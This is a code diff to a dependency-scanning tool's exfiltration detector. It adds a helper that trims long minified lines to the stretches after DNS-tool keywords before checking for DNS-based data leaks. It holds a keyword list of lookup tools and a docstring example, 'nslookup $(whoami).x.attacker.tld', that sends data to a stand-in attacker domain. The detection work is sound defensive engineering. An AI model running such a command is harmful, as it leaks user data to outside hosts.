@@ -22,7 +22,7 @@ from typing import ClassVar
 
 from depvet.analysis.capabilities import DNS_LOOKUPS, PATH_JOINERS
 from depvet.analysis.decode import PROCESS_NAMES
-from depvet.analysis.detector import Cap, Detector, PyContext, TextContext
+from depvet.analysis.detector import Cap, Detector, PyContext, TextContext, hint_index
 from depvet.analysis.detectors.credentials import METADATA_HOSTS
 from depvet.analysis.files import FileKind
 from depvet.analysis.pyfacts import CallSite, Scope, ScopeKind
@@ -1160,6 +1160,19 @@ _MARKED_METHODS = frozenset(
 )
 
 
+_DNS_WORDS = ("nslookup", "dig ", "host ", "ping ", "drill ", "resolve-dnsname")
+
+
+def _dns_stretches(line: str) -> str:
+    """A long line (minified JavaScript: a whole file) cut to the stretches after its DNS words,
+    which is all dns_command reads; a case-insensitive regex over megabytes was the cost."""
+    lower = line.lower()
+    if len(line) <= 4000 or len(lower) != len(line):
+        return line
+    hits = hint_index(_DNS_WORDS).find_all(lower)[:50]
+    return " ; ".join(line[max(0, start - 1) : start + 400] for start, _ in hits)
+
+
 def dns_command(command: str) -> bool:
     """``nslookup $(whoami).x.attacker.tld``: a lookup of a name with variable data before a domain."""
     for match in _DNS_TEXT.finditer(command):
@@ -1419,10 +1432,10 @@ class ExfiltrationDetector(Detector):
                 reported += 1
             if reported > 20:
                 break
-        dns_lines = ctx.hint_lines(("nslookup", "dig ", "host ", "ping ", "drill ", "resolve-dnsname"))
+        dns_lines = ctx.hint_lines(_DNS_WORDS)
         for line_no in sorted(dns_lines)[:200]:
             line = ctx.line_text(line_no).strip()
-            if not line.startswith(_COMMENT) and dns_command(line):
+            if not line.startswith(_COMMENT) and dns_command(_dns_stretches(line)):
                 ctx.report(DNS_COMPUTED, line_no, line[:200])
 
     def _text_webhooks(self, ctx: TextContext) -> dict[int, str]:
